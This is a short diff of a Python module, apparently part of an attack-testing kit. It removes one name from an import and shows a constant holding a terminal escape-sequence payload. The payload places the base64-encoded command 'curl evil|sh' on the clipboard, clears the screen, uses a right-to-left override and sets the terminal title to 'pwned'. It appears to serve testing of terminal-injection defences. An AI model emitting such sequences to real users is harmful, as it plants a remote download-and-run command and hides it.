@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from attack_kit import bash, call, host_ketch, lab, turn  # noqa: F401
+from attack_kit import bash, call, host_ketch, turn
 
 EVIL = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x9b31m\u202e\x1b]0;pwned\x07"
 
